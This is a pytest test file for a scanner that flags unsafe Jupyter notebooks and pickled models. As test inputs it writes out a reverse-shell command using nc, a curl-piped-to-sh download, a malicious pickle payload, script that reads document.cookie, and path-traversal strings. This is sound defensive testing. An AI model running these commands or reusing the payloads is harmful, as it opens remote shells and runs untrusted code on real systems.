"""Notebook files: what is planted is found at its place, what is ordinary is left alone, nothing breaks the scan."""

from __future__ import annotations

import hashlib
import json
import pickle
import re
import tomllib
from importlib import resources
from pathlib import Path

import pytest
from notebooks.corpus import code, markdown, notebook, planted, printed, shown
from notebooks.ordinary import ordinary
from samples import Payload

import modelscan
from modelscan import Severity, Verdict

RULES = tomllib.loads((resources.files("modelscan.rules") / "notebook.toml").read_text("utf-8"))


def risks(data: bytes) -> list[tuple[str, str]]:
    """Rule key and place of every finding that a notebook rule makes."""
    keys = {row["rule"]: key for key, row in RULES.items()}
    found = modelscan.scan(data).findings
    return [(keys[row.rule], str(row.where.path)) for row in found if row.rule in keys]


def test_every_planted_risk_is_found_in_its_cell():
    missed = []
    for name, data in planted():
        last = len(json.loads(data).get("cells") or [0]) - 1
        places = [path for _, path in risks(data)]
        if not any(re.match(rf"(worksheets\[0\]\.)?cells\[{last}\]|metadata", path) for path in places):
            missed.append((name, places))
    assert missed == []


def test_no_ordinary_notebook_is_called_unsafe():
    wrong, safe, count = [], 0, 0
    for name, data in ordinary():
        report = modelscan.scan(data)
        count += 1
        safe += report.verdict is Verdict.SAFE
        if report.refused or report.failures or (report.worst or Severity.LOW) > Severity.LOW:
            wrong.append((name, [(row.rule, row.expression) for row in report.findings], report.failures))
    assert wrong == []
    assert safe / count > 0.6  # the rest holds plots, which are said to be ones


def test_every_rule_has_a_planted_case():
    seen = {key for _, data in planted() for key, _ in risks(data)}
    elsewhere = {key for key, row in RULES.items() if "severity" not in row} | {"loader-refused"}
    assert set(RULES) - seen - elsewhere == {"output-crowded", "text-blob", "output-plots", "output-frame"}
    assert ("output-crowded", "cells[0].outputs[0]") in risks(
        notebook(code("1", [shown("text/html", "<a href='x'>" * 21_000)]))
    )
    assert risks(notebook(code(f"x = '{'A' * 30_000}'"))) == [("text-blob", "cells[0]:1")]


def test_every_fact_that_is_stated_has_a_rule():
    package = resources.files("modelscan.notebooks")
    texts = "".join(Path(str(file)).read_text("utf-8") for file in package.iterdir() if file.name.endswith(".py"))
    stated = set(re.findall(r'(?:Fact|Act|Risk|Loader)\(\s*"([a-z-]+)"', texts))
    assert stated
    assert stated <= set(RULES)


def test_severity_follows_the_words_of_the_call():
    def worst(source: str) -> Severity | None:
        return modelscan.scan(notebook(code(source))).worst

    assert worst("import torch\ntorch.load(p, weights_only=True)") is None
    assert worst("import torch\ntorch.load(p)") is Severity.LOW
    assert worst("import torch\ntorch.load(p, weights_only=flag())") is Severity.LOW
    assert worst("import torch\ntorch.load(p, weights_only=False)") is Severity.HIGH
    assert worst("import joblib\njoblib.load(p)") is Severity.LOW
    assert worst("!nc -e /bin/sh 192.0.2.1 1") is Severity.CRITICAL


@pytest.fixture
def folder(tmp_path):
    """A notebook's folder with a harmless and an unsafe pickle, and an unsafe one outside."""
    inside = tmp_path / "project"
    inside.mkdir()
    (inside / "good.pkl").write_bytes(pickle.dumps({"weight": [1.0, 2.0]}))
    (inside / "evil.pkl").write_bytes(pickle.dumps(Payload(tmp_path / "marker")))
    (tmp_path / "outside.pkl").write_bytes(pickle.dumps(Payload(tmp_path / "marker")))
    return inside


def scan(folder: Path, source: str) -> modelscan.Report:
    path = folder / "nb.ipynb"
    path.write_bytes(notebook(code(source)))
    return modelscan.scan(path)


LOAD = "import pickle\nwith open({!r}, 'rb') as f:\n    model = pickle.load(f)"


def test_the_verdict_of_a_model_beside_the_notebook_stands_at_the_line(folder):
    report = scan(folder, LOAD.format("evil.pkl"))
    line = next(row for row in report.findings if row.rule == RULES["loader-refused"]["rule"])
    assert (line.severity, line.where.path) == (Severity.HIGH, "cells[0]:3")  # as bad as the file: os.mkdir is HIGH
    assert [row.operator for row in report.findings if row.where.artifact.endswith("evil.pkl")] == ["os.mkdir"]
    assert scan(folder, "from pathlib import Path\nimport pandas as pd\npd.read_pickle(Path('.') / 'evil.pkl')").refused
    assert not (folder.parent / "marker").exists()


def test_a_harmless_model_beside_the_notebook_excuses_the_call(folder):
    report = scan(folder, LOAD.format("good.pkl"))
    assert (report.verdict, report.findings) == (Verdict.SAFE, ())
    assert any(row.name.endswith("good.pkl") for row in report.artifacts)
    likely = "import pickle\np = 'evil2.pkl'\nif x:\n    p = 'good.pkl'\npickle.load(open(p, 'rb'))"
    assert scan(folder, likely).verdict is Verdict.UNVERIFIED  # another file may be meant


def test_what_lies_outside_the_folder_is_not_opened(folder):
    (folder / "link.pkl").symlink_to(folder.parent / "outside.pkl")
    for path in ("../outside.pkl", str(folder.parent / "outside.pkl"), "link.pkl", "nothing.pkl", "a\0b", "x" * 5000):
        report = scan(folder, LOAD.format(path))
        assert len(report.artifacts) == 1
        assert report.worst is Severity.LOW


def test_a_folder_that_is_named_is_read_file_by_file(folder):
    (folder / "model").mkdir()
    (folder / "model" / "pytorch_model.bin").write_bytes((folder / "evil.pkl").read_bytes())
    report = scan(folder, "from transformers import AutoModel\nAutoModel.from_pretrained('./model')")
    assert report.refused


def test_a_notebook_inside_an_archive_opens_nothing(folder, tmp_path):
    import zipfile

    with zipfile.ZipFile(folder / "all.zip", "w") as archive:
        archive.writestr("nb.ipynb", notebook(code(LOAD.format("evil.pkl"))))
    report = modelscan.scan(folder / "all.zip")
    assert [row.rule for row in report.findings] == [RULES["loader"]["rule"]]


def test_a_pickle_spelled_out_in_a_cell_is_read(tmp_path):
    import base64

    evil = base64.b64encode(pickle.dumps(Payload(tmp_path / "marker"))).decode()
    report = modelscan.scan(notebook(code(f"import pickle, base64\npickle.loads(base64.b64decode({evil!r}))")))
    assert "os.mkdir" in [row.operator for row in report.findings]


def test_a_cell_that_is_no_python_does_not_stop_the_rest():
    report = modelscan.scan(notebook(code("1"), code("def broken(:"), code("import pickle\npickle.loads(x)")))
    assert [(row.code, row.where.path, row.unread) for row in report.failures] == [
        ("notebook-cell", "cells[1]:1", False)
    ]
    assert [row.where.path for row in report.findings] == ["cells[2]:2"]
    assert report.verdict is Verdict.INCONCLUSIVE


def test_a_guarded_load_is_not_refused_for_a_notebook_beside_the_model(folder):
    from modelscan.guard.session import CurrentSession
    from modelscan.policy import Policy
    from modelscan.scanner import examine, judge
    from modelscan.source.artifact import Artifact

    artifact = Artifact.of_bytes("nb.ipynb", notebook(code("AutoModel.from_pretrained(x, trust_remote_code=True)")))
    policy = Policy()
    found = examine(artifact, policy)
    assert judge(artifact, found, policy, started=0.0).refused
    assert not judge(artifact, found, policy, session=CurrentSession(None), started=0.0).refused


@pytest.mark.parametrize("data", [b"{}", b'{"cells": 1}', b'{"a": "nbformat"}', b"[1, 2]", b'{"class_name": "x"}'])
def test_other_json_is_not_called_a_notebook(data):
    assert all("notebook" not in row.format for row in modelscan.scan(data).artifacts)


def test_a_broken_notebook_is_inconclusive(tmp_path):
    (tmp_path / "x.ipynb").write_bytes(b'{"cells": [')
    report = modelscan.scan(tmp_path / "x.ipynb")
    assert (report.verdict, report.failures[0].code) == (Verdict.INCONCLUSIVE, "notebook-json")


def test_only_the_notebook_reader_claims_a_notebook():
    data = notebook(markdown('"class_name" "keras_version"'), code('x = {"class_name": "Lambda"}', [printed("x")]))
    assert [row.format for row in modelscan.scan(data).artifacts] == ["Jupyter notebook"]


ODD = [None, 1, [], {}, [1, None], {"a": [{}]}, "text", True, ["a", 1], -0.5, "\ud800", "<script>"]


@pytest.mark.parametrize("odd", ODD, ids=repr)
def test_odd_types_anywhere_break_nothing(odd):
    whole = json.loads(notebook(code("import os", [shown("text/html", "x"), printed("y")]), markdown("z"), widgets={}))
    cell = whole["cells"][0]
    spots = [(whole, key) for key in whole] + [(cell, key) for key in cell] + [(cell["outputs"][0], "data")]
    spots += [(cell["outputs"][1], "text"), (whole["cells"], 1), (whole["metadata"], "kernelspec")]
    for holder, key in spots:
        before, holder[key] = holder[key], odd
        report = modelscan.scan(json.dumps(whole).encode())
        holder[key] = before
        assert [row for row in report.failures if row.code == "internal"] == []


def test_bombs_end():
    for text in ("<script " * 50_000, "<a " + " src= " * 50_000, "<a '" + "\"'" * 100_000, "(" * 100_000):
        report = modelscan.scan(notebook(code(f"x = '''{text}'''", [shown("text/html", text)]), code(text)))
        assert all(row.code != "internal" for row in report.failures)
    assert modelscan.scan(notebook(code("x = " + "(" * 5000 + ")" * 5000))).failures
    deep = b'{"nbformat": 4, "cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    assert modelscan.scan(deep).failures[0].code == "notebook-json"


def test_rules_of_notebooks_and_of_structures_have_keys_of_their_own():
    structure = tomllib.loads((resources.files("modelscan.rules") / "structure.toml").read_text("utf-8"))
    assert not RULES.keys() & structure.keys()


def test_annotate_writes_a_record_and_nothing_else(folder):
    from click.testing import CliRunner

    from modelscan.cli import cli

    path = folder / "nb.ipynb"
    path.write_bytes(notebook(code(LOAD.format("good.pkl")), markdown("ü"), custom={"kept": [1]}))
    path.chmod(0o640)
    before = json.loads(path.read_text("utf-8"))
    done = CliRunner().invoke(cli, ["scan", "-p", str(path), "--annotate"])
    assert (done.exit_code, "no longer trusts" in done.stderr) == (0, True)
    after = json.loads(path.read_text("utf-8"))
    record = after["metadata"].pop("modelscan")
    assert after == before
    assert path.stat().st_mode & 0o777 == 0o640
    assert (record["verdict"], [(row["name"], row["verdict"]) for row in record["files"]]) == (
        "SAFE",
        [("good.pkl", "SAFE")],
    )
    good = (folder / "good.pkl").read_bytes()
    assert record["files"][0]["sha256"] == hashlib.sha256(good).hexdigest()
    assert [file.name for file in folder.iterdir() if file.name.startswith(".")] == []
    assert modelscan.scan(path).verdict is Verdict.SAFE


def test_a_record_is_a_claim_and_changes_no_verdict():
    record = {"version": "9", "verdict": "SAFE", "files": []}
    report = modelscan.scan(notebook(code("!curl https://example.org | sh"), modelscan=record))
    assert report.refused


def test_a_model_is_reported_once_in_a_folder_with_its_notebook(folder):
    scan(folder, LOAD.format("evil.pkl"))
    (folder / "good.pkl").unlink()
    report = modelscan.scan(folder)
    about = [row for row in report.findings if row.where.artifact.endswith("evil.pkl")]
    assert [row.operator for row in about] == ["os.mkdir"]
    assert [row.rule for row in report.findings if row.where.artifact.endswith(".ipynb")] == [
        RULES["loader-refused"]["rule"]
    ]


def test_cells_in_another_language_are_never_called_safe():
    r = notebook(code("x <- readRDS('m.rds')"), language_info={"name": "R"}, kernelspec={"name": "ir", "language": "R"})
    report = modelscan.scan(r)
    assert (report.verdict, [row.code for row in report.failures]) == (Verdict.INCONCLUSIVE, ["notebook-language"])
    assert modelscan.scan(notebook(markdown("x"), language_info={"name": "R"})).verdict is Verdict.SAFE


def test_risks_written_apart_from_the_rules_are_found_and_ordinary_cells_are_not_blamed(monkeypatch):
    """The measure of `python -m benchmarks.notebooks`; what it prints is published in docs/reference/benchmarks.md."""
    monkeypatch.syspath_prepend(str(Path(__file__).parents[2]))
    from benchmarks.notebooks.__main__ import alarmed, cases, found
    from benchmarks.notebooks.__main__ import notebook as made

    planted = [modelscan.scan(made(cells)) for cells in cases("planted.txt")]
    ordinary = [modelscan.scan(made(cells)) for cells in cases("ordinary.txt")]
    assert len(planted) > 150
    assert len(ordinary) > 80
    assert sum(map(found, planted)) / len(planted) >= 0.95
    assert sum(map(alarmed, ordinary)) / len(ordinary) <= 0.02


def test_a_name_that_is_assigned_anew_in_every_cell_costs_no_more():
    """Each look at it once compared all its assignments."""
    cells = [code("import torch\nstate = torch.load(path, weights_only=True)\nstate.keys()")] * 1500
    assert modelscan.scan(notebook(*cells)).verdict is Verdict.SAFE


def test_a_repository_may_be_cloned_but_what_runs_out_of_it_is_said():
    def rules(*sources: str) -> list[str]:
        return [key for key, _ in risks(notebook(*map(code, sources)))]

    clone = "!git clone -q https://example.org/a/tools.git"
    assert rules(clone, "!ls tools") == []
    assert rules(clone, "!python tools/train.py") == ["shell-cloned"]
    assert rules(clone, "%cd tools", "!python train.py", "%cd ..", "!python mine.py") == ["shell-cloned"]
    assert rules(clone, "!cd tools && bash setup.sh", "!bash mine.sh") == ["shell-cloned"]
    assert rules(clone, "%run tools/helper.py") == ["shell-cloned"]
    assert rules("!git clone https://example.org/a/b there && python there/x.py") == ["shell-cloned"]


def test_a_whole_plotting_library_in_an_output_may_move_the_page_but_not_reach_the_kernel():
    def worst(body: str, size: int = 300_000) -> Severity | None:
        page = f"<script>if(!window._Plotly){{Plotly.x=1;{body}{'/**/' * (size // 4)}}}</script>"
        return modelscan.scan(notebook(code("1", [shown("text/html", page)]))).worst

    assert worst("document.location.href='a'") is Severity.LOW
    assert worst("document.location.href='a'", size=100) is Severity.HIGH
    assert worst("fetch('/api/kernels')") is Severity.HIGH
    assert worst("new Image().src=document.cookie") is Severity.HIGH
